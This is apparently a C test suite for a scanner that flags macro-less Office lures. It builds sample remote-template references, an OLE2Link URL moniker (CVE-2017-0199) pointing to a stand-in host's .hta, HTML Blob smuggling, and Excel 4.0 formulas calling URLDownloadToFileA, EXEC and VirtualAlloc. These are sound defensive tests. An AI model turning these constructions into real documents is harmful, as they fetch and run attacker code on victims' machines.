/*
 * 2027-office-nomacro: the pieces behind lures without macros (issue
 * 16), each with its benign counterpart: which targets fetch from
 * another host (extref_remote), .rels parts and Word field codes, RTF
 * templates and linked objects; HTML/SVG/script behaviour; Excel 4.0
 * formula signs as text and in a BIFF8 macro sheet; a BIFF8 record over
 * 8,224 bytes (OFFICE_MALFORMED); an OOXML macro sheet whose formulas
 * call EXEC.
 */
#include <unistd.h>

#include "office_t.h"
#include "extref.h"
#include "html_behaviour.h"
#include "xlm.h"
#include "office_int.h"

static struct findings	 fs;

static void
ctx_init(struct scan_ctx *ctx)
{
	findings_free(&fs);
	memset(&fs, 0, sizeof(fs));
	if (ot_lim.ole_sectors == 0)
		limits_default(&ot_lim);
	memset(ctx, 0, sizeof(*ctx));
	ctx->lim = &ot_lim;
	ctx->fs = &fs;
	ctx->deadline_ms = lw_now_ms() + 20000;
}

static void
t_remote(void)
{
	static const struct {
		const char	*t, *form, *host;
	} v[] = {
		{ "http://198.51.100.9/t.dotm", "http(s)", "198.51.100.9" },
		{ "HTTPS://Evil.Example/x", "http(s)", "evil.example" },
		{ "\\\\198.51.100.9@SSL\\DavWWWRoot\\t.dotm", "WebDAV",
		    "198.51.100.9" },
		{ "\\\\files.example\\DavWWWRoot\\t.dotm", "WebDAV",
		    "files.example" },
		{ "\\\\fs01\\templates\\letter.dotx", "UNC", "fs01" },
		{ "//fs01/templates/letter.dotx", "UNC", "fs01" },
		{ "file://198.51.100.9/share/t.dotm", "file", "198.51.100.9" },
		{ "file:////fs01/share/t.dotm", "file", "fs01" },
		{ "file:///\\\\fs01\\share\\t.dotm", "file", "fs01" },
		{ "mhtml:http://198.51.100.9/o.html!x-usc:http://a/b", "mhtml",
		    "198.51.100.9" },
		{ "search-ms:query=x&crumb=location:\\\\h\\s", "search-ms", "" },
		{ "ms-msdt:/id PCWDiagnostic", "ms-handler", "" },
		{ "ms-word:ofe|u|http://198.51.100.9/x", "ms-handler", "" },
		{ "file:///C:\\Users\\a\\AppData\\Normal.dotm", NULL, NULL },
		{ "file:///C:/Users/a/Normal.dotm", NULL, NULL },
		{ "file:///usr/share/templates/a.ott", NULL, NULL },
		{ "C:\\Users\\a\\Normal.dotm", NULL, NULL },
		{ "\\\\?\\C:\\x\\a.dotm", NULL, NULL },
		{ "embeddings/oleObject1.bin", NULL, NULL },
		{ "mailto:a@example.com", NULL, NULL },
		{ "ms-", NULL, NULL },
	};
	char		 host[EXTREF_HOST_MAX];
	const char	*form;
	size_t		 i;

	for (i = 0; i < sizeof(v) / sizeof(v[0]); i++) {
		form = extref_remote(v[i].t, host, sizeof(host));
		if (v[i].form == NULL) {
			ok(form == NULL, "local or harmless: %s", v[i].t);
			continue;
		}
		is_str(v[i].form, form != NULL ? form : "(none)", "%s",
		    v[i].t);
		is_str(v[i].host, host, "host of %s", v[i].t);
	}
}

static void
t_rels_fields(void)
{
	struct scan_ctx	 ctx;
	const char	*R = "http://schemas.openxmlformats.org/"
			    "officeDocument/2006/relationships/";
	char		 x[4096];

	ctx_init(&ctx);
	ot_fmt(x, sizeof(x), "<Relationships>"
	    "<Relationship Id='a' Type='%sframe' Target='\\\\h1\\s\\f.html'"
	    " TargetMode='External'/>"
	    "<Relationship Id='b' Type='%ssubDocument' Target="
	    "'file://h2/s/sub.docx' TargetMode='External'/>"
	    "<Relationship Id='c' Type='%saFChunk' Target='https://h3/c.mht'"
	    " TargetMode='External'/>"
	    "<Relationship Id='d' Type='%soleObject' Target="
	    "'&#109;s-msdt:/id x' TargetMode='External'/>"
	    "<Relationship Id='e' Type='%shyperlink' Target='\\\\h5\\s'"
	    " TargetMode='External'/>"
	    "<Relationship Id='f' Type='%simage' Target='http://h6/a.png'"
	    " TargetMode='External'/>"
	    "<Relationship Id='g' Type='%sattachedTemplate' Target="
	    "'file:///C:/Users/a/Normal.dotm' TargetMode='External'/>"
	    "<Relationship Id='h' Type='%sexternalLinkPath' Target="
	    "'file:///\\\\h8\\s\\book.xlsx' TargetMode='External'/>"
	    "</Relationships>", R, R, R, R, R, R, R, R);
	is_int(LW_OK, extref_rels(&ctx, "a.docx", "word/_rels/document.xml"
	    ".rels", x), "rels scanned");
	ok(ot_find(&fs, "OFFICE_REMOTE_TEMPLATE", "frame") != NULL,
	    "UNC frame");
	ok(ot_find(&fs, "OFFICE_REMOTE_TEMPLATE", "subDocument") != NULL,
	    "file: sub-document");
	ok(ot_find(&fs, "OFFICE_REMOTE_TEMPLATE", "aFChunk") != NULL,
	    "https altChunk");
	ok(ot_find(&fs, "OFFICE_REMOTE_TEMPLATE", "ms-msdt") != NULL,
	    "ms-msdt: OLE object, written as a character reference");
	is_int(4, (int)fs.n, "hyperlink, image, local template and linked "
	    "workbook are no finding");
	ot_dump(&fs);

	ctx_init(&ctx);
	is_int(LW_OK, extref_fields(&ctx, "a.docx", "word/document.xml",
	    "<w:p><w:r><w:instrText xml:space=\"preserve\"> INCLUDEPICTURE "
	    "\"http://www.example.com/a.png\" \\d</w:instrText></w:r>"
	    "<w:fldSimple w:instr=\" INCLUDEPICTURE &quot;\\\\\\\\h9\\\\s"
	    "\\\\a.png&quot; \"/>"
	    "<w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>"
	    "TEXT \"https://h10/x.docx\"</w:instrText></w:r></w:p>"),
	    "fields scanned");
	ok(ot_find(&fs, "OFFICE_REMOTE_TEMPLATE", "INCLUDETEXT field") !=
	    NULL && ot_find(&fs, "OFFICE_REMOTE_TEMPLATE", "h10") != NULL,
	    "INCLUDETEXT split over two runs");
	ok(ot_find(&fs, "OFFICE_REMOTE_TEMPLATE", "host h9") != NULL,
	    "INCLUDEPICTURE from a share (fldSimple)");
	ok(ot_find(&fs, "OFFICE_REMOTE_TEMPLATE", "example.com") == NULL,
	    "INCLUDEPICTURE over http: pasted web content, no finding");
	ot_dump(&fs);
}

static void
t_rtf(void)
{
	static const char tmpl[] = "{\\rtf1{\\*\\template "
	    "\\\\\\\\198.51.100.9@SSL\\\\DavWWWRoot\\\\t.dot}x}";
	static const char tmplhex[] = "{\\rtf1{\\*\\template "
	    "http\\'3a//198.51.100.9/t.dot}x}";
	static const char local[] = "{\\rtf1{\\*\\template "
	    "C:\\\\Users\\\\a\\\\Normal.dot}x}";
	static const char field[] = "{\\rtf1{\\field{\\*\\fldinst "
	    "INCLUDETEXT \"http://198.51.100.9/x.rtf\"}{\\fldrslt x}}}";

	is_int(LW_OK, ot_scan("a.rtf", (const unsigned char *)tmpl,
	    sizeof(tmpl) - 1, &fs), "RTF scans");
	ok(ot_find(&fs, "OFFICE_REMOTE_TEMPLATE", "WebDAV") != NULL,
	    "RTF \\template on WebDAV");
	ot_scan("a.rtf", (const unsigned char *)tmplhex, sizeof(tmplhex) - 1,
	    &fs);
	ok(ot_find(&fs, "OFFICE_REMOTE_TEMPLATE", "http://198.51.100.9") !=
	    NULL, "RTF \\template with \\'3a");
	ot_scan("a.rtf", (const unsigned char *)local, sizeof(local) - 1,
	    &fs);
	is_int(0, (int)fs.n, "RTF template on the local disk: nothing");
	ot_scan("a.rtf", (const unsigned char *)field, sizeof(field) - 1,
	    &fs);
	ok(ot_find(&fs, "OFFICE_REMOTE_TEMPLATE", "INCLUDETEXT") != NULL,
	    "RTF INCLUDETEXT field");
}

/* An RTF \\object whose OLE1 data is obj (hex-encoded here). */
static void
rtf_object(struct ot_buf *r, const unsigned char *obj, size_t n)
{
	static const char hex[] = "0123456789abcdef";
	static const char head[] =
	    "{\\rtf1{\\object\\objautlink{\\*\\objdata ";
	size_t	 i;
	char	 h[2];

	memset(r, 0, sizeof(*r));
	ot_put(r, head, sizeof(head) - 1);
	for (i = 0; i < n; i++) {
		h[0] = hex[obj[i] >> 4];
		h[1] = hex[obj[i] & 15];
		ot_put(r, h, 2);
	}
	ot_put(r, "}}}", 3);
}

static void
lpas(struct ot_buf *b, const char *s)
{
	uint32_t n = (uint32_t)strlen(s) + 1;
	unsigned char l[4] = { n & 0xff, n >> 8 & 0xff, n >> 16 & 0xff,
	    n >> 24 };

	ot_put(b, l, 4);
	ot_put(b, s, n);
}

static void
t_rtf_links(void)
{
	static const unsigned char v1[4] = { 1, 5, 0, 0 };
	static const unsigned char linked[4] = { 1, 0, 0, 0 };
	static const unsigned char embedded[4] = { 2, 0, 0, 0 };
	const char	*url = "http://198.51.100.9/x.hta";
	struct ot_buf	 o, r;
	unsigned char	 u16[64], sz[4];
	size_t		 i, n;

	/* A linked object: its topic is the source, fetched on update. */
	memset(&o, 0, sizeof(o));
	ot_put(&o, v1, 4);
	ot_put(&o, linked, 4);
	lpas(&o, "Word.Document.8");
	lpas(&o, "\\\\198.51.100.9@SSL\\DavWWWRoot\\x.doc");
	lpas(&o, "");
	rtf_object(&r, o.p, o.n);
	is_int(LW_OK, ot_scan("a.rtf", r.p, r.n, &fs), "RTF linked object");
	ok(ot_find(&fs, "OFFICE_REMOTE_TEMPLATE", "linked object") != NULL,
	    "a linked object on WebDAV");
	ot_dump(&fs);
	free(o.p);
	free(r.p);

	/* An embedded OLE2Link: a URL moniker in UTF-16LE (CVE-2017-0199). */
	for (i = 0, n = 0; url[i] != '\0'; i++) {
		u16[n++] = (unsigned char)url[i];
		u16[n++] = 0;
	}
	memset(&o, 0, sizeof(o));
	ot_put(&o, v1, 4);
	ot_put(&o, embedded, 4);
	lpas(&o, "OLE2Link");
	lpas(&o, "");
	lpas(&o, "");
	sz[0] = (unsigned char)(n + 16);
	sz[1] = sz[2] = sz[3] = 0;
	ot_put(&o, sz, 4);
	ot_put(&o, "\xe0\xc9\xea\x79\xf9\xba\xce\x11\x8c\x82\x00\xaa"
	    "\x00\x4b\xa9\x0b", 16);
	ot_put(&o, u16, n);
	rtf_object(&r, o.p, o.n);
	ot_scan("a.rtf", r.p, r.n, &fs);
	ok(ot_find(&fs, "OFFICE_REMOTE_TEMPLATE", "OLE2Link") != NULL &&
	    ot_find(&fs, "OFFICE_REMOTE_TEMPLATE", "x.hta") != NULL,
	    "an OLE2Link's URL moniker");
	ot_dump(&fs);
	free(o.p);
	free(r.p);
}

static void
t_html(void)
{
	char		 why[160], *big, *page;
	size_t		 i, n = 6000;

	if ((big = malloc(n + 1)) == NULL || (page = malloc(n + 600)) == NULL)
		bail("malloc");
	for (i = 0; i < n; i++)
		big[i] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnop0123456789+/"
		    [i * 7 % 54];
	big[n] = '\0';

#define HB(s, m) html_behaviour((const unsigned char *)(s), strlen(s), \
	(m), why, sizeof(why))
	is_int(HTMLB_NONE, HB("<html><body><p>Hello</p></body></html>",
	    HB_HTML), "plain page");
	is_int(HTMLB_SCRIPT, HB("<html><script>function s(){}</script>",
	    HB_HTML), "page with a script");
	is_int(HTMLB_LURE, HB("<a href=\"search-ms:query=x\">open</a>",
	    HB_HTML), "search-ms: link");
	is_int(HTMLB_SCRIPT, HB("<style>.x{-ms-filter: none}</style>"
	    "<script>var a = 1;</script>", HB_HTML), "-ms-filter: is CSS");
	is_int(HTMLB_LURE, HB("<svg><script>x()</script></svg>", HB_SVG),
	    "SVG with script");
	is_int(HTMLB_NONE, HB("<svg><rect width='1'/></svg>", HB_SVG),
	    "plain SVG");
	is_int(HTMLB_NONE, HB("Run search-ms:query=x to find it.", HB_TEXT),
	    "a handler named in text is no redirect");

	snprintf(page, n + 600, "<script>var d='%s'; var b = new Blob("
	    "[atob(d)]); navigator.msSaveOrOpenBlob(b, 'a.zip');</script>",
	    big);
	is_int(HTMLB_LURE, HB(page, HB_HTML), "smuggling: Blob + payload");
	ok(strstr(why, "msSaveOrOpenBlob") != NULL, "why: %s", why);
	snprintf(page, n + 600, "var d='%.2000s' +\n '%.2000s' + '%s';"
	    "var u = URL.createObjectURL(new Blob([atob(d)]));", big,
	    big + 2000, big + 4000);
	is_int(HTMLB_LURE, HB(page, HB_TEXT),
	    "smuggling in bare script, payload cut into joined literals");
	snprintf(page, n + 600, "<img src=\"data:image/png;base64,%s\">"
	    "<script>var b = new Blob([csv]); a.href = URL.createObjectURL"
	    "(b); a.download = 'x.csv';</script>", big);
	is_int(HTMLB_SCRIPT, HB(page, HB_HTML),
	    "report: inline image and a CSV export are no smuggling");
	snprintf(page, n + 600, "<a href=\"data:application/zip;base64,%s\" "
	    "download=\"invoice.zip\">invoice</a>", big);
	is_int(HTMLB_LURE, HB(page, HB_HTML), "data: URL download link");
	memset(page, '=', n);
	memcpy(page, "<script>atob(x); new Blob([y]);</script>", 40);
	page[n] = '\0';
	is_int(HTMLB_SCRIPT, HB(page, HB_HTML),
	    "a rule line of '=' is no payload");
#undef HB
	free(big);
	free(page);
}

static void
t_xlm(void)
{
	struct xlm_signs s;
	struct scan_ctx	 ctx;
	const char	*f;
	int		 i;

	memset(&s, 0, sizeof(s));
	f = "=SUM(R1C1:R2C1)+AVERAGE(A1:A3)";
	xlm_formula(&s, f, strlen(f));
	is_int(0, (int)s.flags, "SUM and AVERAGE: no sign");
	f = "=MYEXEC(1)+EXECUTE(2)";
	xlm_formula(&s, f, strlen(f));
	is_int(0, (int)s.flags, "EXEC only as a whole name");
	f = "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,"
	    "\"http://x/a\",\"c:\\a.dll\",0,0)";
	xlm_formula(&s, f, strlen(f));
	ok((s.flags & XLM_CALL) && (s.flags & XLM_DOWNLOAD), "CALL urlmon");
	ctx_init(&ctx);
	is_int(LW_OK, xlm_report(&ctx, "a.slk", "a SYLK file", &s), "report");
	ok(ot_find(&fs, "OFFICE_XLM_SUSPICIOUS", "CALL") != NULL,
	    "OFFICE_XLM_SUSPICIOUS with CALL");

	memset(&s, 0, sizeof(s));
	for (i = 0; i < 10; i++)
		xlm_formula(&s, "CHAR(65)&", 9);
	ok((s.flags & XLM_CHARS) != 0, "10 CHAR() calls");
	ctx_init(&ctx);
	xlm_report(&ctx, "a", "b", &s);
	is_int(0, (int)fs.n, "CHAR() alone in a visible sheet: no finding");
	s.flags |= XLM_HIDDEN;
	xlm_report(&ctx, "a", "b", &s);
	is_int(1, (int)fs.n, "CHAR() obfuscation in a hidden sheet");
}

static void
rec(struct ot_buf *b, unsigned type, const void *d, size_t n)
{
	unsigned char	 h[4] = { type & 0xff, type >> 8, n & 0xff, n >> 8 };

	ot_put(b, h, 4);
	ot_put(b, d, n);
}

/* A BIFF8 workbook stream: a very hidden macro sheet with formula. */
static void
biff(struct ot_buf *b, const unsigned char *rgce, size_t cce)
{
	static const unsigned char bofg[16] = { 0x00, 0x06, 0x05, 0x00 };
	static const unsigned char bofm[16] = { 0x00, 0x06, 0x40, 0x00 };
	unsigned char	 bs[16] = { 0, 0, 0, 0, 0x02, 0x01, 6, 0,
	    'M', 'a', 'c', 'r', 'o', '1' };
	unsigned char	 f[300];

	memset(b, 0, sizeof(*b));
	rec(b, 0x0809, bofg, sizeof(bofg));
	rec(b, 0x0085, bs, 14);
	rec(b, 0x000a, "", 0);
	rec(b, 0x0809, bofm, sizeof(bofm));
	memset(f, 0, sizeof(f));
	f[20] = (unsigned char)cce;
	memcpy(f + 22, rgce, cce);
	rec(b, 0x0006, f, 22 + cce);
	rec(b, 0x000a, "", 0);
}

static void
t_biff(void)
{
	/* ptgStr "calc", ptgFuncVar(1 arg, EXEC=110) */
	static const unsigned char exec[] = { 0x17, 4, 0, 'c', 'a', 'l',
	    'c', 0x42, 1, 110, 0 };
	/* 1 + 2: ptgInt 1, ptgInt 2, ptgAdd */
	static const unsigned char sum[] = { 0x1e, 1, 0, 0x1e, 2, 0, 0x03 };
	/* FORMULA(CHAR(..)&...): cetab 96 with bit 15, 8 CHAR (111) calls */
	unsigned char	 build[64];
	struct scan_ctx	 ctx;
	struct ot_buf	 b;
	size_t		 i, n = 0;

	for (i = 0; i < 8; i++) {
		build[n++] = 0x1e;		/* ptgInt 65 */
		build[n++] = 65;
		build[n++] = 0;
		build[n++] = 0x41;		/* ptgFunc CHAR */
		build[n++] = 111;
		build[n++] = 0;
	}
	build[n++] = 0x42;			/* ptgFuncVar FORMULA */
	build[n++] = 2;
	build[n++] = 96;
	build[n++] = 0x80;
	ctx_init(&ctx);
	biff(&b, build, n);
	xls_scan(&ctx, "a.xls", b.p, b.n, false);
	ok(ot_find(&fs, "OFFICE_XLM_SUSPICIOUS", "FORMULA writing code") !=
	    NULL && ot_find(&fs, "OFFICE_XLM_SUSPICIOUS", "CHAR()") != NULL,
	    "FORMULA and CHAR() obfuscation in a very hidden macro sheet");
	ot_dump(&fs);
	free(b.p);

	ctx_init(&ctx);
	biff(&b, exec, sizeof(exec));
	is_int(LW_OK, xls_scan(&ctx, "a.xls", b.p, b.n, false), "BIFF8 scans");
	ok(ot_find(&fs, "OFFICE_XLM", "very hidden") != NULL,
	    "very hidden macro sheet");
	ok(ot_find(&fs, "OFFICE_XLM_SUSPICIOUS", "EXEC") != NULL &&
	    ot_find(&fs, "OFFICE_XLM_SUSPICIOUS", "hidden") != NULL,
	    "EXEC in the macro sheet's formula");
	ot_dump(&fs);
	free(b.p);
	ctx_init(&ctx);
	biff(&b, sum, sizeof(sum));
	xls_scan(&ctx, "a.xls", b.p, b.n, false);
	ok(ot_find(&fs, "OFFICE_XLM", NULL) != NULL &&
	    ot_find(&fs, "OFFICE_XLM_SUSPICIOUS", NULL) == NULL,
	    "a macro sheet that adds: OFFICE_XLM only");
	free(b.p);
}

/*
 * A BIFF8 record is at most 8,224 bytes: one longer is OFFICE_MALFORMED
 * (no record Excel wrote), and what follows it is still walked.
 */
static void
t_biff_long(void)
{
	static const unsigned char bofg[16] = { 0x00, 0x06, 0x05, 0x00 };
	unsigned char	 bs[16] = { 0, 0, 0, 0, 0x02, 0x01, 6, 0,
	    'M', 'a', 'c', 'r', 'o', '1' };
	static unsigned char big[8300];
	struct scan_ctx	 ctx;
	struct ot_buf	 b;
	size_t		 n;

	for (n = 8224; n <= 8225; n++) {
		ctx_init(&ctx);
		memset(&b, 0, sizeof(b));
		rec(&b, 0x0809, bofg, sizeof(bofg));
		rec(&b, 0x00fc, big, n);		/* SST */
		rec(&b, 0x0085, bs, 14);
		rec(&b, 0x000a, "", 0);
		is_int(LW_OK, xls_scan(&ctx, "a.xls", b.p, b.n, false),
		    "BIFF8 with a long record scans");
		if (n == 8224)
			ok(ot_find(&fs, "OFFICE_MALFORMED", NULL) == NULL,
			    "an 8,224-byte record is BIFF8's maximum: fine");
		else
			ok(ot_find(&fs, "OFFICE_MALFORMED", "over BIFF8") !=
			    NULL, "an 8,225-byte record: OFFICE_MALFORMED");
		ok(ot_find(&fs, "OFFICE_XLM", "very hidden") != NULL,
		    "the records after it are walked (%zu)", n);
		ot_dump(&fs);
		free(b.p);
	}
	/* BIFF5 records are not held to BIFF8's maximum here. */
	ctx_init(&ctx);
	memset(&b, 0, sizeof(b));
	rec(&b, 0x0809, bofg, sizeof(bofg));
	rec(&b, 0x00fc, big, 8225);
	rec(&b, 0x000a, "", 0);
	xls_scan(&ctx, "a.xls", b.p, b.n, true);
	ok(ot_find(&fs, "OFFICE_MALFORMED", NULL) == NULL,
	    "the BIFF8 maximum is not applied to BIFF5");
	free(b.p);
}

static void
t_ooxml_macrosheet(void)
{
	const char	*tmp = tap_tmpdir("office-nomacro");
	char		 cmd[8192], f[4200];

	ot_fmt(cmd, sizeof(cmd), "cd '%s' && mkdir -p x/xl/macrosheets && "
	    "printf '%%s' '<Types><Override PartName=\"/xl/macrosheets/"
	    "sheet1.xml\" ContentType=\"application/vnd.ms-excel.macrosheet"
	    "+xml\"/></Types>' > 'x/[Content_Types].xml' && printf '%%s' "
	    "'<xm:macrosheet><sheetData><row><c r=\"A1\"><f>REGISTER("
	    "\"Kernel32\",\"VirtualAlloc\",\"JJJJJ\",\"V\",,1,9)</f></c>"
	    "<c r=\"A2\"><f>HALT()</f></c></row></sheetData></xm:macrosheet>' "
	    "> x/xl/macrosheets/sheet1.xml && cd x && rm -f ../m.xlsm && "
	    "zip -qr ../m.xlsm '[Content_Types].xml' xl", tmp);
	if (ot_run(cmd) != 0)
		bail("zip");
	ot_fmt(f, sizeof(f), "%s/m.xlsm", tmp);
	is_int(LW_OK, ot_scan_file(f, &fs), "xlsm scans");
	ok(ot_find(&fs, "OFFICE_XLM_SUSPICIOUS", "REGISTER") != NULL,
	    "OOXML macro sheet formula calls REGISTER");
	ot_dump(&fs);
}

int
main(void)
{
	alarm(60);
	t_remote();
	t_rels_fields();
	t_rtf();
	t_rtf_links();
	t_html();
	t_xlm();
	t_biff();
	t_biff_long();
	t_ooxml_macrosheet();
	findings_free(&fs);
	return done_testing();
}
